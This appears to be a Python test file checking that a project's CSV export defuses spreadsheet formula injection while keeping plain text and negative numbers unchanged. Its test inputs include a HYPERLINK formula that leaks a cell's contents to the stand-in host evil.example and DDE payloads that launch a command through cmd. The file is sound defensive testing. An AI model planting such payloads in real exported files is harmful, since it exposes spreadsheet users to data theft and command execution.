"""CSV cells a spreadsheet opens: text never runs as a formula, numbers stay numbers (OWASP CSV injection)."""

import csv
import io
from datetime import date
from decimal import Decimal

from gis.io import csv_text
from layers.reports import Report

# Text that Excel, LibreOffice or Google Sheets would evaluate, as OWASP lists it (plus the full-width forms).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 236 3822 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def parsed(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def test_formula_text_is_prefixed_and_everything_else_is_kept():
    (row,) = parsed(csv_text([FORMULAS]))
    assert row == ["'" + f for f in FORMULAS]
    plain = ["Cửa khẩu Cầu Treo", "a=b", "x-1", "", "'quoted already"]
    assert parsed(csv_text([plain])) == [plain]


def test_negative_numbers_stay_numbers():
    (row,) = parsed(csv_text([[-3, -0.5, Decimal("-12.50"), Decimal("-1E+3"), 0, None, True, date(2025, 4, 1)]]))
    assert row == ["-3", "-0.5", "-12.50", "-1000", "0", "", "true", "2025-04-01"]


def test_report_csv_neutralises_formulas_too():
    report = Report("r", "R", ["name_vi", "paid_vnd"], [{"name_vi": FORMULAS[0], "paid_vnd": -5}], {})
    raw = report.as_csv()
    assert raw.startswith("\ufeff")
    (row,) = csv.DictReader(io.StringIO(raw.lstrip("\ufeff")))
    assert row == {"name_vi": "'" + FORMULAS[0], "paid_vnd": "-5"}
